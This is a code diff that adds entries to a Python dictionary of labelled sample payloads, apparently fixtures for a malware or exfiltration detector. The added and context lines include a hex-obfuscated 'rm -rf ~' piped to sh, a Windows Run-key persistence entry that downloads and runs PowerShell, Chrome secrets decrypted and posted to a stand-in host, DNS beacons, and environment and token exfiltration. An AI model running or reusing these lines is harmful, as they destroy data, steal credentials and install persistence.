@@ -315,6 +315,10 @@ FORMS: dict[str, tuple[str, str]] = {
     "batch file beacon": ("onboard.cmd", "@echo off\nnslookup %USERNAME%.%COMPUTERNAME%.onb.example.invalid 192.0.2.53 >nul 2>&1\n"),  # noqa: E501
     "an API key sent to a request catcher": ("a.sh", "curl -s -d \"k=$OPENAI_API_KEY\" https://webhook.site/0b1c\n"),
     "a token posted to a bare IP": ("a.py", "import os, requests\nrequests.post('http://192.0.2.1/t', data=os.environ['GITHUB_TOKEN'])\n"),  # noqa: E501
+    "printf escapes into a shell": ("a.sh", "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x7e' | sh\n"),
+    "python exec of text built from chr": ("a.py", "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))\n"),  # noqa: E501
+    "a Run key set with winreg": ("a.py", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'powershell -w hidden -c iwr http://192.0.2.1/a | iex')\n"),  # noqa: E501
+    "Chrome secrets decrypted with DPAPI and posted": ("a.py", "import win32crypt, requests\nk = win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\nrequests.post('https://c.example.invalid', data=k)\n"),  # noqa: E501
     "identity beacon over DNS": ("a.sh", "nslookup $(whoami).$(hostname).beacon.example.invalid\n"),
     "payload in a DNS TXT record": ("a.sh", "dig +short TXT cfg.example.invalid | tr -d '\"' | base64 -d | sh\n"),
     "the whole environment posted": ("a.py", "import os, requests\nrequests.post('https://c.example.invalid', json=dict(**os.environ))\n"),  # noqa: E501
